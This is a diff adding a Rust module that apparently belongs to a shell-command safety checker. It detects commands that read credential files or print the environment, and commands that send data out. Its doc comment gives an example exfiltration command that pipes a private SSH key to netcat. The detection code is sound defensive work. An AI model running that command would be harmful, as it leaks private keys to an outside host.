@@ -1,0 +1,23 @@
+//! Secrets that are read and sent by one text: `cat ~/.ssh/id_ed25519 | nc HOST 1`.
+
+use super::writes::is_credential;
+use crate::program::table::ProgramTable;
+use crate::program::table::call::Call;
+use crate::shell::word::Word;
+
+/// Whether a command reads a file that holds secrets, or prints the environment.
+pub(crate) fn reads_secrets(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
+    if matches!(program, "printenv") || (program == "env" && args.is_empty()) {
+        return true;
+    }
+    let reads = table.row(program).is_some_and(|row| row.reads_files);
+    reads && args.iter().any(|word| is_credential(table.files(), &word.text))
+}
+
+/// Whether a command sends what it reads, or what its words hold.
+pub(crate) fn sends(table: &ProgramTable, program: &str, args: &[Word]) -> bool {
+    let Some(row) = table.row(program) else {
+        return false;
+    };
+    Call::new(row, args).first(&row.sends).is_some()
+}
